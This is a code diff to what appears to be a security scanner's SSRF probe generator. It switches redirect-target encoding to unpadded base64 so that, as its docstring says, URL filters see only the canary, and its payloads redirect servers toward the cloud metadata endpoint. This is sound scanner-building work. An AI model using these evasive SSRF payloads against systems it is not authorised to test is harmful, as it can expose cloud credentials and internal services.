@@ -32,7 +32,7 @@ from __future__ import annotations
 import ipaddress
 from dataclasses import dataclass, field
 from typing import Protocol
-from urllib.parse import quote, urlsplit, urlunsplit
+from urllib.parse import urlsplit, urlunsplit
 
 TOKEN_PREFIX = "vgl"
 TOKEN_ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789"
@@ -102,6 +102,14 @@ def ipv4_spellings(addr: str) -> list[tuple[str, str]]:
     return out
 
 
+def b64(text: str) -> str:
+    """URL-safe base64 without padding: a redirect target that names no address in the payload
+    (a filter that reads the first URL sees only the canary)."""
+    import base64
+
+    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")
+
+
 def canary_body(token: str) -> str:
     """What the canary answers for ``token`` (see :mod:`vigil.security.probes.canary`)."""
     return f"vigil canary {token}"
@@ -161,10 +169,10 @@ def ssrf_payloads(canary_url: str, rand: Rand, *, delay: float = 2.0) -> list[Pa
     for code in (302, 307):
         t = tok()
         target = f"http://{METADATA_V4}/latest/meta-data/"
-        out.append(Payload("ssrf", "redirect", f"{base}/r/{t}?code={code}&to={quote(target, safe='')}", t,
+        out.append(Payload("ssrf", "redirect", f"{base}/r/{t}?code={code}&to64={b64(target)}", t,
                            f"the canary answers {code} to the metadata service", signatures=("metadata",), oob=(t,)))
     t, t2 = tok(), tok()
-    out.append(Payload("ssrf", "redirect", f"{base}/r/{t}?code=302&to={quote(f'{base}/c/{t2}', safe='')}", t,
+    out.append(Payload("ssrf", "redirect", f"{base}/r/{t}?code=302&to64={b64(f'{base}/c/{t2}')}", t,
                        "the canary redirects to itself (the server follows redirects)", reflect=canary_body(t2), oob=(t2,), extra={"first": t}))
     # schemes
     for url, sig, note in (
